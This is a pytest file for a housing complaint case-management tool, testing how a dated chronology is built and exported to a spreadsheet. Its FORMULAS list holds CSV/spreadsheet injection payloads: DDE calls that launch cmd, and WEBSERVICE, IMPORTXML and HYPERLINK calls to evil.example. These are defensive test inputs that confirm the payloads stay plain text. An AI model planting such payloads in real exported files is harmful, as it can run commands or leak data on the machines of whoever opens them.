"""The chronology: every dated fact once, on its day, with where the date comes from."""

from datetime import UTC, date, datetime
from io import BytesIO
from typing import Any
from zipfile import ZipFile

import pytest
from hypothesis import HealthCheck, given, settings
from papers.case_files import ADA
from python_calamine import CalamineWorkbook
from store.cases import any_complaint, told

from casedesk.papers.chronology import Line, chronology, chronology_xlsx
from casedesk.records import Action, Complaint, Contact, Document, Event, Extension, Letter, Stage, Verdict
from casedesk.records.people import Need, Restriction

FRIDAY, MONDAY = date(2026, 11, 20), date(2026, 11, 23)


def case_of(**changed: Any) -> Complaint:
    """The leak of the store's tests, with nothing dated in it but its receipt."""
    bare = dict.fromkeys(("points", "actions", "events", "verdicts", "contacts", "documents", "letters"), ())
    return told(**{**bare, "logged": FRIDAY, "stages": (Stage(1, FRIDAY),), **changed})


def only(case: Complaint, day: date) -> list[Line]:
    return [line for line in chronology(case) if line.day == day]


def test_the_lines_stand_in_the_order_of_their_days() -> None:
    days = [line.day for line in chronology(told())]
    assert days == sorted(days)
    assert days[0] == FRIDAY
    assert days[-1] == date(2027, 1, 8), "the roof is promised for 8 January"


@settings(max_examples=40, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(any_complaint)
def test_no_record_is_too_odd_for_it(case: Complaint) -> None:
    days = [line.day for line in chronology(case)]
    assert days == sorted(days)
    assert case.received in days


def test_every_date_of_the_record_is_in_it() -> None:
    days = {line.day for line in chronology(told())}
    december = {4, 8, 11, 14, 17, 18, 21}
    assert {date(2026, 12, day) for day in december} <= days
    assert {FRIDAY, MONDAY, date(2026, 11, 24), date(2026, 11, 26), date(2026, 11, 27)} <= days


def test_what_the_timeline_tells_is_not_told_twice() -> None:
    acknowledged = Event(2, "acknowledge", MONDAY, MONDAY, "Stage 1 acknowledged by post", "M. Delacourt")
    case = case_of(events=(acknowledged,), stages=(Stage(1, FRIDAY, acknowledged=MONDAY, defined=MONDAY),))
    (line,) = only(case, MONDAY)
    assert line.what == "Stage 1 acknowledged by post"
    assert line.source == "recorded Mon 23 Nov 2026 by M. Delacourt"


def test_back_dating_shows_the_day_it_was_written_down() -> None:
    call = Event(2, "contact", FRIDAY, MONDAY, "the fan is broken", "M. Delacourt")
    case = case_of(events=(call,), contacts=(Contact(2, "phone", "in", "contractor", "A. Builder"),))
    line = next(line for line in chronology(case) if line.kind == "contact")
    assert (line.day, line.recorded) == (FRIDAY, MONDAY)
    assert line.what == "phone, in, from the contractor (A. Builder): the fan is broken"


CORRECTED = "Corrected stage 1 acknowledged from Mon 23 Nov 2026 to Tue 24 Nov 2026: typed wrongly"


def test_a_corrected_date_stands_beside_the_one_first_written() -> None:
    events = (
        Event(1, "log", FRIDAY, FRIDAY, "Received by phone", "M. Delacourt"),
        Event(2, "acknowledge", MONDAY, MONDAY, "Stage 1 acknowledged", "M. Delacourt"),
        Event(3, "correct", date(2026, 12, 1), date(2026, 12, 1), CORRECTED, "P. Officer"),
    )
    tuesday = date(2026, 11, 24)
    case = case_of(events=events, stages=(Stage(1, FRIDAY, acknowledged=tuesday, defined=tuesday),))
    assert [line.what for line in only(case, MONDAY)] == [
        "Stage 1 acknowledged (the date was corrected later)"
    ]
    (now,) = only(case, tuesday)
    assert now.what == "Stage 1 acknowledged"
    assert now.source == "the record as corrected Tue 1 Dec 2026 by P. Officer"
    assert [line.what for line in only(case, FRIDAY)] == ["Received by phone"], "this date still stands"


def test_a_letter_and_its_copy_are_the_source_of_the_act_they_went_with() -> None:
    sent = Event(2, "acknowledge", MONDAY, MONDAY, "Stage 1 acknowledged", "M. Delacourt")
    letter = Letter(
        *(2, "acknowledgement-1", 1, MONDAY, "email", "Ada Example", "Dear Ada Example"),
        document=5,
        promised=date(2026, 12, 7),
        event=2,
    )
    copy = Document(5, "L02.pdf", "letter sent", MONDAY, 9, "0" * 64, dated=MONDAY, event=2)
    stage = Stage(1, FRIDAY, acknowledged=MONDAY, defined=MONDAY)
    case = case_of(events=(sent,), letters=(letter,), documents=(copy,), stages=(stage,))
    (line,) = only(case, MONDAY)
    assert line.source == "letter L02 (E005); recorded Mon 23 Nov 2026 by M. Delacourt"
    (promise,) = only(case, date(2026, 12, 7))
    assert promise.kind == "date"
    assert promise.source == "letter L02 (E005)"


def test_a_letter_filed_on_another_day_than_it_was_sent_has_a_line_of_its_own() -> None:
    filed = Event(2, "acknowledge", MONDAY, MONDAY, "Stage 1 acknowledged", "M. Delacourt")
    letter = Letter(1, "acknowledgement-1", 1, FRIDAY, "post", "Ada Example", "", event=2)
    lines = only(case_of(events=(filed,), letters=(letter,)), FRIDAY)
    assert ("Acknowledgement, stage 1 sent by post", "letter") in [(x.what, x.kind) for x in lines]


def test_a_document_stands_on_the_date_that_is_on_it() -> None:
    filed = Event(2, "attach", MONDAY, MONDAY, "On file, survey: E003 damp.pdf", "M. Delacourt")
    old = date(2025, 3, 3)
    survey = Document(3, "damp.pdf", "survey", MONDAY, 9, "0" * 64, dated=old, author="B. Surveyor", event=2)
    (line,) = only(case_of(events=(filed,), documents=(survey,)), old)
    assert line.what == "E003 survey by B. Surveyor, damp.pdf"
    assert (line.source, line.recorded) == ("the date on document E003", MONDAY)


def test_an_undated_document_is_told_by_the_entry_it_came_with() -> None:
    filed = Event(2, "attach", MONDAY, MONDAY, "On file, survey: E003 damp.pdf", "M. Delacourt")
    survey = Document(3, "damp.pdf", "survey", MONDAY, 9, "0" * 64, event=2)
    (line,) = only(case_of(events=(filed,), documents=(survey,)), MONDAY)
    assert line.source == "document E003; recorded Mon 23 Nov 2026 by M. Delacourt"


def test_a_register_is_named_as_the_source() -> None:
    imported = Event(1, "log", FRIDAY, MONDAY, "Received by letter")
    (line,) = chronology(case_of(events=(imported,), imported=True))
    assert line.source == "imported register"


def test_what_was_promised_says_what_became_of_it() -> None:
    by = date(2027, 1, 8)
    open_, done = Action(1, "mend the roof", by), Action(2, "paint", by, done=date(2027, 1, 6))
    assert [line.what for line in only(case_of(actions=(open_, done)), by)] == [
        "The day promised for: mend the roof (not recorded as done)",
        "The day promised for: paint (done Wed 6 Jan 2027)",
    ]


def test_a_verdict_stands_on_the_day_that_was_due_and_only_the_newest_of_a_clock() -> None:
    due = date(2026, 11, 27)
    first = Verdict(
        1, "stage1.acknowledge", "code", due, date(2026, 11, 30), "late", False, "2024", "2026-11", MONDAY
    )
    second = first._replace(number=2, done=MONDAY, state="met", reason="the letter was found")
    (line,) = only(case_of(verdicts=(first, second)), due)
    assert line.what == (
        "Stage 1 acknowledgement due by the Code: met, done Mon 23 Nov 2026 (judged again: the letter was found)"
    )
    assert line.source == "judged Mon 23 Nov 2026 by rules 2024, calendar 2026-11"


def test_an_extension_is_there_when_it_was_sent_and_when_it_ran_out() -> None:
    extension = Extension(sent=date(2026, 12, 4), to=date(2026, 12, 14), reason="the surveyor is ill")
    case = case_of(stages=(Stage(1, FRIDAY, extensions=(extension,)),))
    assert [line.what for line in only(case, date(2026, 12, 4))] == ["Stage 1 extended to Mon 14 Dec 2026"]
    assert [line.what for line in only(case, date(2026, 12, 14))] == [
        "Stage 1: the day extended to on Fri 4 Dec 2026"
    ]


OCTOBER, NOVEMBER = date(2026, 10, 6), date(2026, 11, 21)
"""A Tuesday, on which it was logged; and the Saturday of the newest entry."""


def promised_and_extended(**changed: Any) -> Complaint:
    """Logged on 6 October, promised and extended on the 19th; the note of 21 November recorded none of it."""
    monday = date(2026, 10, 19)
    extension = Extension(sent=monday, to=date(2026, 10, 30), reason="the surveyor is ill")
    facts: dict[str, Any] = {
        "received": date(2026, 10, 5),
        "logged": OCTOBER,
        "stages": (Stage(1, date(2026, 10, 5), draft_due=date(2026, 10, 28), extensions=(extension,)),),
        "actions": (Action(1, "mend the roof", date(2026, 11, 6)),),
        "events": (
            Event(1, "log", date(2026, 10, 5), OCTOBER, "Received by phone", "M. Delacourt"),
            Event(2, "extend", monday, monday, "Stage 1 extended to Fri 30 Oct 2026: the surveyor is ill"),
            Event(3, "promise", monday, monday, "Promised by Fri 6 Nov 2026: mend the roof"),
            Event(4, "note", NOVEMBER, NOVEMBER, "looked through", "P. Officer"),
        ),
    }
    return case_of(**{**facts, **changed})


def recorded(case: Complaint, what: str) -> date | None:
    (line,) = (line for line in chronology(case) if line.what.startswith(what))
    return line.recorded


def test_so_was_that_of_an_extension_that_does_not_count() -> None:
    told = "It does not count, the date stays: Stage 1 extended to Fri 30 Oct 2026: the surveyor is ill"
    events = [e._replace(text=told) if e.act == "extend" else e for e in promised_and_extended().events]
    case = promised_and_extended(events=tuple(events))
    assert recorded(case, "Stage 1: the day extended to") == date(2026, 10, 19)


def test_a_date_was_recorded_by_the_entry_that_recorded_it() -> None:
    case, monday = promised_and_extended(), date(2026, 10, 19)
    assert recorded(case, "Complaint logged") == OCTOBER
    assert recorded(case, "Stage 1: the day extended to") == monday
    assert recorded(case, "The day promised for: mend the roof") == monday
    assert recorded(case, "Stage 1: the day a draft answer") is None, "no entry says when that was asked"


def test_a_correction_recorded_only_what_it_says_it_corrected() -> None:
    text = "Corrected the latest extension of stage 1, logged from Mon 5 Oct 2026 to Tue 6 Oct 2026: a slip"
    correction = Event(5, "correct", NOVEMBER, NOVEMBER, text, "P. Officer")
    case = promised_and_extended(events=(*promised_and_extended().events, correction))
    assert recorded(case, "Complaint logged") == NOVEMBER
    assert recorded(case, "Stage 1: the day extended to") == NOVEMBER
    assert recorded(case, "The day promised for: mend the roof") == date(2026, 10, 19)


def test_the_day_of_one_answer_stands_in_one_line() -> None:
    """The Code's clock as extended, our policy's, the extension, and two letters, all to Friday 30 October."""
    due = date(2026, 10, 30)
    by_code = Verdict(
        1, "stage1.respond", "code", due, date(2026, 10, 29), "met", True, "2024", "2026-11", NOVEMBER
    )
    letters = tuple(
        Letter(number, kind, 1, date(2026, 10, 19), "email", "Ada Example", "Dear Ada", promised=due, event=2)
        for number, kind in ((1, "extension-1"), (2, "progress"))
    )
    case = promised_and_extended(
        verdicts=(by_code, by_code._replace(number=2, basis="policy")), letters=letters
    )
    (line,) = only(case, due)
    assert line.what == (
        "Stage 1 response due by the Code, as extended: met, done Thu 29 Oct 2026;"
        " response due by our policy, as extended: met, done Thu 29 Oct 2026;"
        " the day extended to on Mon 19 Oct 2026; promised (Extension, stage 1);"
        " promised (Remedy and actions: how far we are)"
    )
    assert line.recorded == NOVEMBER, "the day of the verdict, which leads"
    monday = "(recorded Mon 19 Oct 2026)"
    assert line.source == (
        "judged Sat 21 Nov 2026 by rules 2024, calendar 2026-11;"
        f" the record of the complaint {monday}; letter L01 {monday}; letter L02 {monday}"
    )


AT = datetime(2026, 12, 21, 15, 4, 5, tzinfo=UTC)
FORMULAS = (
    "=1+1",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("https://evil.example","here")',
    '=WEBSERVICE("https://evil.example")',
    '=IMPORTXML("https://evil.example","//a")',
    '=DDE("cmd";"/C calc";"x")',
    "{=1}",
    "{=SUM(A1:A9)}",
    "+1+1",
    "+44 20 7946 0000",
    "-1",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "@now",
    "\t=1+1",
    "\n=1+1",
    " =1+1",
    "https://evil.example",
    "mailto:ada@example.org",
    "007",
    "_x0041_",
)


def rows_of(lines: tuple[Line, ...]) -> list[list[Any]]:
    book = CalamineWorkbook.from_filelike(BytesIO(chronology_xlsx(lines, title="C26-001", at=AT)))
    return book.get_sheet_by_index(0).to_python(skip_empty_area=False)


def line_of(what: str, source: str = "letter L01", day: date = FRIDAY) -> Line:
    return Line(day, what, "note", source, MONDAY)


def test_the_sheet_has_a_heading_and_real_days() -> None:
    heading, row = rows_of((line_of("the roof leaks"),))
    assert heading == ["Date", "What happened", "Kind", "Where the date is from", "Recorded"]
    assert row == [FRIDAY, "the roof leaks", "note", "letter L01", MONDAY]


@pytest.mark.fault(25)
@pytest.mark.parametrize("formula", FORMULAS)
def test_no_text_becomes_a_formula_a_number_or_a_link(formula: str) -> None:
    _, row = rows_of((line_of(formula, formula),))
    assert (row[1], row[3]) == (formula, formula)


def test_the_sheet_holds_text_cells_only_where_text_was_given() -> None:
    made = chronology_xlsx(tuple(line_of(text) for text in FORMULAS), title="C26-001", at=AT)
    with ZipFile(BytesIO(made)) as parts:
        sheet = parts.read("xl/worksheets/sheet1.xml").decode()
        assert "<f>" not in sheet
        assert "<hyperlink" not in sheet
        assert sheet.count('t="s"') == len(FORMULAS) * 3 + 5, "three texts a row, and five headings"
        assert "<autoFilter" in sheet
        assert 'state="frozen"' in sheet


@pytest.mark.fault(26)
@pytest.mark.parametrize("letter", ["x", "ŵ", "🏠"])
def test_a_text_beyond_a_cell_goes_on_in_the_next_rows(letter: str) -> None:
    whole = letter * 70_000
    rows = rows_of((line_of(whole), line_of("short")))[1:]
    assert "".join(row[1] for row in rows[:-1]) == whole
    assert rows[-1][1] == "short"
    assert all(len(row[1].encode("utf-16-le")) // 2 <= 32_767 for row in rows)
    assert rows[1][2] == f"note (part 2 of {len(rows) - 1})"


@pytest.mark.fault(26)
def test_what_a_cell_cannot_hold_is_seen_to_be_missing() -> None:
    _, row = rows_of((line_of("a\x00b\x1b[31m\ud800c\u202e"),))
    assert row[1] == "a\ufffdb\ufffd[31m\ufffdc\ufffd"


def test_a_day_before_spreadsheets_is_written_out() -> None:
    _, row = rows_of((line_of("typed wrongly", day=date(1601, 1, 1)),))
    assert row[0] == "Mon 1 Jan 1601"


def test_the_same_lines_give_the_same_bytes() -> None:
    lines = chronology(told())
    assert chronology_xlsx(lines, title="C26-001", at=AT) == chronology_xlsx(lines, title="C26-001", at=AT)


def test_what_was_agreed_with_the_resident_since_it_came_stands_on_its_day() -> None:
    """Her sight was known on the day received, Friday 20 November; it was looked at again and ended in December."""
    before = Need(3, "language", "Needs an interpreter", date(2026, 11, 19))
    limit = Restriction(1, "One call a week", "shouted", "C. Head", "a warning", *(date(2026, 12, 1),) * 2)
    person = ADA._replace(needs=(*ADA.needs, before), restrictions=(limit,))
    lines = [line for line in chronology(told(), person) if line.source == "the resident's own record"]
    assert [(line.day, line.what) for line in lines] == [
        (date(2026, 11, 20), "Adjustment: asked for on the telephone; letters in large print"),
        (date(2026, 11, 20), "Disability: poor sight"),
        (date(2026, 12, 1), "Contact restricted, approved by C. Head: One call a week"),
        (date(2026, 12, 4), "Looked at again: Disability: poor sight"),
        (date(2026, 12, 18), "No longer: Disability: poor sight"),
    ]
